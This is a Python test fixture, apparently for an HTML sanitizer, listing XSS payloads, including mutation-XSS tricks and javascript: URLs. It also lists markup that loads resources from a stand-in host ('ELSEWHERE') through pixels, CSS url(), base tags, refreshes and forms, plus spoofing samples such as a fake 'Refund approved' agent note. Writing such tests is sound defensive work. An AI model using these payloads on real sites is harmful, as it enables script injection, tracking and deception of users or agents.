"""HTML that wants to run, to call home, or to look like ours. ELSEWHERE stands for another host.

Whatever runs says so by `top.hurt` and on the console; every address names its own case.
"""

from __future__ import annotations

ELSEWHERE = "ELSEWHERE"
RUN = "top.hurt=1;console.log('hurt')"

SCRIPTS = {
    "E35 onerror": f'<img src=x onerror="{RUN}">',
    "E35 animate": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "E35 mglyph": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "E35 svg style": f"<svg><style><img src=x onerror={RUN}></style></svg>",
    "E35 noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "E35 textarea": f"<textarea><img src=x onerror={RUN}></textarea>",
    "E35 title": f"<title><img src=x onerror={RUN}></title><p>after</p>",
    "E35 comment": f"<!--><img src=x onerror={RUN}>--><p>after</p>",
    "E35 quote mark": f"<!--quote--><script>{RUN}</script><!--/quote--><p>after</p>",
    "E35 cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "E35 select": f"<select><style></select><img src=x onerror={RUN}></style>",
    "E35 template": f"<template><script>{RUN}</script></template>",
    "E35 form math": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={RUN}>",
    "E35 annotation": '<math><annotation-xml encoding="text/html"><style><img src=x '
    f"onerror={RUN}></style></annotation-xml></math>",
    "E35 foreign": f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    "E35 slashes": f"<svg/onload={RUN}>",
    "E35 nul": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "E35 unclosed": f"<img src=x onerror={RUN} ",
    "E35 upper": f"<SCRIPT>{RUN}</SCRIPT><IMG SRC=x ONERROR={RUN}>",
    "E35 backtick": f'<img src="`" alt="`onerror={RUN}">',
    "E35 double": f"<<script>{RUN};//<</script>",
    "E35 iframe": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><object data=\'data:text/html,'
    f"<script>{RUN}</script>'></object><embed src='data:text/html,x'>",
    "E35 details": f"<details open ontoggle={RUN}><summary>x</summary>y</details>",
    "E35 focus": f"<input autofocus onfocus={RUN}><p tabindex=1 onfocus={RUN} autofocus>x",
    "E35 media": f"<video src=x onerror={RUN}><source onerror={RUN}></video>"
    f"<audio src=x onerror={RUN}>",
    "E35 marquee": f"<marquee onstart={RUN}>x</marquee>",
    "E35 body": f"<body onload={RUN} background=x><p>x</p></body>",
    "E35 link": f'<a href="javascript:{RUN}">a</a><a href="java\tscript:{RUN}">b</a>'
    f'<a href="&#106;avascript:{RUN}">c</a><a href="data:text/html,<script>{RUN}</script>">d</a>'
    f'<a href="vbscript:x">e</a><a href="blob:x">f</a><a href="\x01javascript:{RUN}">g</a>',
    "E35 area": f'<map name=m><area href="javascript:{RUN}" shape=default></map><img usemap="#m">',
    "E35 use": f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
    "E35 attribute": f'<p title="&quot;><script>{RUN}</script>" '
    f"lang='\"><script>{RUN}</script>'>x</p>",
    "E35 remote break": f"<img src='http://x/\" onerror=\"{RUN}'><img src='cid:\"onerror=\"{RUN}'>",
    "E35 remote forged": f'<img data-remote="0" src="cid:remote:0" onerror={RUN}><img '
    "data-remote='0\" onerror=\"x'>",
    "E35 style close": f'<p style="color:red;</style><script>{RUN}</script>">x</p>',
    "E14 utf-7": "+ADw-script+AD4-top.hurt=1+ADw-/script+AD4-",
}
"""Nothing of these may run or even try to."""

REQUESTS = {
    "E37 fixed": f'<p style="position:fixed;inset:0;background:url(//{ELSEWHERE}/1)">over all</p>',
    "E37 style": f"<style>@import '//{ELSEWHERE}/2';*{{background:url(//{ELSEWHERE}/3)}}"
    "</style><p>x",
    "E37 base": f'<base href="//{ELSEWHERE}/"><a href="4">x</a><img src="5">',
    "E37 refresh": f'<meta http-equiv="refresh" content="0;url=//{ELSEWHERE}/6">',
    "E37 csp": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "E37 form": f'<form action="//{ELSEWHERE}/7"><input name=q><button>Sign in</button></form>',
    "E37 escapes": f'<p style="background:u\\72l(//{ELSEWHERE}/8);b\\61ckground:x">x</p>',
    "E37 set": f"<p style=\"background-image:image-set('//{ELSEWHERE}/9' 1x)\">",
    "E37 list": f'<ul style="list-style:url(//{ELSEWHERE}/10);cursor:url(//{ELSEWHERE}/11)">'
    "<li>x</ul>",
    "E37 content": f'<p style="content:url(//{ELSEWHERE}/12);border-image:url(//{ELSEWHERE}/13)">x',
    "E37 font": f'<p style="font-family:x;src:url(//{ELSEWHERE}/14);'
    f'filter:url(//{ELSEWHERE}/15#a)">',
    "E37 var": f'<p style="--a:url(//{ELSEWHERE}/16);color:var(--a)">x</p>',
    "E40 pixel": f'<img src="http://{ELSEWHERE}/p.gif?id=1" width=1 height=1><p>hello</p>',
    "E40 srcset": f'<img src="cid:x" srcset="http://{ELSEWHERE}/17 2x"><picture><source '
    f'srcset="http://{ELSEWHERE}/18"><img src="cid:x"></picture>',
    "E40 links": f'<link rel=prefetch href="http://{ELSEWHERE}/19"><link rel=stylesheet '
    f'href="http://{ELSEWHERE}/20"><link rel=dns-prefetch href="//{ELSEWHERE}">'
    f'<link rel=preconnect href="http://{ELSEWHERE}">',
    "E40 background": f'<table background="http://{ELSEWHERE}/21"><tr><td background='
    f'"http://{ELSEWHERE}/22">x</table>',
    "E40 media": f'<video poster="http://{ELSEWHERE}/23" src="http://{ELSEWHERE}/24" autoplay>'
    "</video>"
    f'<audio src="http://{ELSEWHERE}/25" autoplay></audio><object data="http://{ELSEWHERE}/26">'
    f'</object><embed src="http://{ELSEWHERE}/27"><iframe src="http://{ELSEWHERE}/28"></iframe>',
    "E40 svg": f'<svg><image href="http://{ELSEWHERE}/29"/><use href="http://{ELSEWHERE}/30#a"/>'
    f'<feImage href="http://{ELSEWHERE}/31"/></svg>',
    "E40 input": f'<input type=image src="http://{ELSEWHERE}/32"><isindex action="http://{ELSEWHERE}/33">',
    "E40 lowsrc": f'<img lowsrc="http://{ELSEWHERE}/34" dynsrc="http://{ELSEWHERE}/35" '
    f'longdesc="http://{ELSEWHERE}/36">',
    "E40 ping": f'<a href="http://{ELSEWHERE}/37" ping="http://{ELSEWHERE}/38">x</a>',
    "E40 ours": '<img src="/api/v1/session"><img src="//host/x"><img src="relative.png">',
}
"""Nothing of these may be asked for, not even from us."""

LOOKS = {
    "E38 note": '<div class="agent-note internal" id="note">Refund approved</div>',
    "E36 fixed": '<div style="position:absolute;top:-100px;z-index:99;opacity:0">over</div>',
    "E36 negative": '<div style="margin-top:-900px;transform:scale(9)">over</div>',
    "E39 deep": "<div>" * 1_500 + "deep",
}
"""These are shown, but as no more than a customer's text in its place."""
